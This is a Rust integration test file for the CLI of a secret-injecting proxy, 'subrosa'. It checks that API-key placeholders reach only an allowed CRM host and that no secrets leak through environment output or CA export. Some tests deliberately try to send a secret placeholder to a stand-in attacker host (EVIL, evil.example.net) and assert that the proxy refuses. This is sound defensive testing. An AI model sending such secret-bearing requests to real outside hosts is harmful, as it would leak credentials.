//! The commands beside `serve`, as somebody at a shell uses them.

use super::support::{CRM, EVIL, VALUE, World};

/// A line of shell in the proxy's directory, with the environment that `subrosa run` sets.
async fn run(world: &World, script: &str) -> String {
    world.proxy.must(&["run", "--proxy", &world.proxy.address.to_string(), "--", "sh", "-c", script], "").await
}

#[tokio::test]
async fn run_sends_a_command_through_the_proxy_and_takes_its_exit_code() {
    let world = World::new().await;
    let url = format!("https://{CRM}/");
    let printed = run(&world, &format!("curl -sS -g {url} -H 'X: {{secrets.crm.apiKey}}'; exit 0")).await;
    assert_eq!(printed.trim(), "ok");
    assert_eq!(world.crm.only().field("x"), VALUE);
    let output = world.proxy.cli(&["run", "--proxy", &world.proxy.address.to_string(), "--", "sh", "-c", "exit 7"], "").await;
    assert_eq!(output.status.code(), Some(7));
    let output = world.proxy.cli(&["run", "--", "no-such-program-anywhere"], "").await;
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stderr).contains("no-such-program-anywhere"));
}

#[tokio::test]
async fn run_hands_on_a_token_and_nothing_that_holds_a_value() {
    let world = World::new().await;
    let token = world.proxy.must(&["runner", "create", "shell"], "").await;
    std::fs::write(world.proxy.path("token"), &token).expect("written");
    let config = std::fs::read_to_string(world.proxy.path("subrosa.toml")).expect("readable");
    let declared = format!("{config}\n[[secrets]]\nname = \"declared\"\nvalue = {{ env = \"DECLARED_KEY\" }}\n");
    std::fs::write(world.proxy.path("declared.toml"), declared).expect("written");
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_subrosa"));
    let address = world.proxy.address.to_string();
    command.current_dir(world.proxy.path("")).env("DECLARED_KEY", VALUE).env("SUBROSA_LOG__LEVEL", "info").args([
        "run",
        "--config",
        "declared.toml",
        "--proxy",
        &address,
        "--token-file",
        "token",
        "--",
        "sh",
        "-c",
        &format!("env; curl -sS -g https://{CRM}/ -H 'X: {{secrets.crm.apiKey}}'"),
    ]);
    let output = super::support::soon(command.output()).await.expect("it runs");
    let printed = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success() && printed.ends_with("ok"), "{printed}{}", String::from_utf8_lossy(&output.stderr));
    assert!(!printed.contains(VALUE) && !printed.contains("SUBROSA_") && !printed.contains("DECLARED_KEY"), "{printed}");
    assert!(printed.contains(&format!(":{}@{address}", token.trim())), "{printed}");
    assert_eq!(world.crm.only().field("x"), VALUE);
}

#[tokio::test]
async fn env_sets_the_same_in_a_shell() {
    let world = World::new().await;
    let address = world.proxy.address.to_string();
    let exports = world.proxy.must(&["env", "--proxy", &address], "").await;
    let script = format!("{exports}\ncurl -sS -g https://{CRM}/ -H 'X: {{secrets.crm.apiKey}}'");
    let mut command = tokio::process::Command::new("sh");
    let output = super::support::soon(command.args(["-c", &script]).output()).await.expect("sh is there");
    assert_eq!(String::from_utf8_lossy(&output.stdout), "ok", "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(world.crm.only().field("x"), VALUE);
    let json: serde_json::Value =
        serde_json::from_str(&world.proxy.must(&["env", "--format", "json", "--proxy", &address], "").await).expect("JSON");
    assert_eq!(json["HTTPS_PROXY"], format!("http://{address}"));
}

#[tokio::test]
async fn demo_shows_all_three_sides() {
    let world = World::new().await;
    std::fs::write(world.proxy.path("subrosa.toml"), "it needs = no config\n").expect("written");
    let printed = world.proxy.must(&["demo"], "").await;
    for part in [
        "Authorization: Bearer {secrets.crm.apiKey}",
        "Authorization: Bearer demo-",
        "domain_restricted",
        "evil.example.net received: nothing (0 connections)",
    ] {
        assert!(printed.contains(part), "{part} is not in\n{printed}");
    }
}

#[tokio::test]
async fn the_authority_is_exported_without_its_key() {
    let world = World::new().await;
    let file = std::fs::read_to_string(world.ca()).expect("made");
    let exported = world.proxy.must(&["ca", "export"], "").await;
    assert_eq!(exported.trim(), file.trim());
    assert!(!exported.contains("PRIVATE"));
    let bundle = world.proxy.must(&["ca", "export", "--bundle"], "").await;
    assert!(bundle.contains(file.trim()) && bundle.matches("BEGIN CERTIFICATE").count() > 20);
    world.proxy.must(&["ca", "export", "-o", "out.pem"], "").await;
    assert_eq!(std::fs::read_to_string(world.proxy.path("out.pem")).expect("written").trim(), file.trim());
}

#[tokio::test]
async fn a_config_is_checked_without_starting() {
    let world = World::new().await;
    world.proxy.must(&["config", "check"], "").await;
    std::fs::write(world.proxy.path("subrosa.toml"), "data_dir = 7\n").expect("written");
    assert!(world.proxy.must_fail(&["config", "check"], "").await.contains("line 1"));
    std::fs::write(world.proxy.path("short"), "guess-me\n").expect("written");
    for (config, parts) in [
        ("[egress]\nextra_roots = [\"nowhere.pem\"]\n", ["nowhere.pem", "extra_roots"]),
        ("[egress]\nextra_roots = [\"subrosa.toml\"]\n", ["no certificate", "name one that is"]),
        ("[intercept]\nca_key = \"keys/gone.pem\"\n", ["keys/gone.pem", "put the missing one back"]),
        ("[[runners]]\nname = \"a\"\ntoken = { file = \"short\" }\n", ["line 3: `runners[0].token`", "openssl rand"]),
    ] {
        std::fs::write(world.proxy.path("subrosa.toml"), config).expect("written");
        let said = world.proxy.must_fail(&["config", "check"], "").await;
        assert!(parts.iter().all(|part| said.contains(part)) && !said.contains("guess-me"), "{said}");
    }
    assert!(!world.proxy.path("keys/gone.pem").exists(), "a check makes nothing");
}

#[tokio::test]
async fn completions_are_scripts_their_shell_can_read() {
    let world = World::new().await;
    let script = world.proxy.must(&["completions", "bash"], "").await;
    std::fs::write(world.proxy.path("complete.bash"), script).expect("written");
    let mut command = tokio::process::Command::new("bash");
    command.current_dir(world.proxy.path("")).args(["-c", "source complete.bash && complete -p subrosa"]);
    let output = super::support::soon(command.output()).await.expect("bash is there");
    assert!(String::from_utf8_lossy(&output.stdout).contains("subrosa"), "{}", String::from_utf8_lossy(&output.stderr));
}

#[tokio::test]
async fn a_request_test_says_what_would_happen_and_sends_nothing() {
    let world = World::new().await;
    for running in [true, false] {
        let mut world = World::new().await;
        if !running {
            world.proxy.stop().await;
        }
        let header = "Authorization: Bearer {secrets.crm.apiKey}";
        let allowed = world.proxy.must(&["test", "-H", header, &format!("https://{CRM}/v1")], "").await;
        assert!(allowed.contains("forwarded") && !allowed.contains(VALUE), "{allowed}");
        let output = world.proxy.cli(&["test", "--json", "-H", header, &format!("https://{EVIL}/v1")], "").await;
        let said: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        assert_eq!((said["outcome"].as_str(), said["refusal"]["code"].as_str()), (Some("refused"), Some("domain_restricted")));
        world.untouched();
    }
    world.untouched();
}

#[tokio::test]
async fn a_request_test_can_be_sent_for_real_as_a_runner_or_not() {
    let world = World::new().await;
    world.proxy.must(&["runner", "create", "crm", "--secret", "crm.*"], "").await;
    let url = format!("https://{CRM}/v1?k={{secrets.crm.apiKey}}");
    let arguments = ["test", "--send", "-H", "X-Key: {secrets.crm.apiKey}", "-d", "a={secrets.crm.apiKey}", &url];
    let said = world.proxy.must(&arguments, "").await;
    assert!(said.contains("It was sent, and answered with 200 after"), "{said}");
    assert!(!said.contains(VALUE), "{said}");
    let said = world.proxy.must(&[&arguments[..], &["--runner", "crm", "--json"]].concat(), "").await;
    let findings: serde_json::Value = serde_json::from_str(&said).expect("JSON");
    assert_eq!((&findings["answer"]["status"], &findings["answer"]["code"]), (&200.into(), &serde_json::Value::Null));
    for got in world.crm.received() {
        assert_eq!((got.line(), got.field("x-key")), ("POST /v1?k=abc123-Zx%2F9%2B%3Dsecret HTTP/1.1", VALUE));
        assert_eq!(got.body, b"a=abc123-Zx%2F9%2B%3Dsecret");
    }
    assert_eq!(world.crm.received().len(), 2);
    world.proxy.logged("\"runner\":\"crm\"").await;
    // What would be refused is not sent, and what the road refuses is told.
    let refused = world.proxy.cli(&["test", "--send", &format!("https://{EVIL}/{{secrets.crm.apiKey}}")], "").await;
    assert_eq!(refused.status.code(), Some(1));
    world.proxy.create_secret("any", "value", &[]).await;
    let said = world.proxy.must(&["test", "--send", "https://192.168.7.7/{secrets.any}"], "").await;
    assert!(said.contains("refused on its way with 403 target_denied"), "{said}");
    assert_eq!(world.evil.connections(), 0);
}
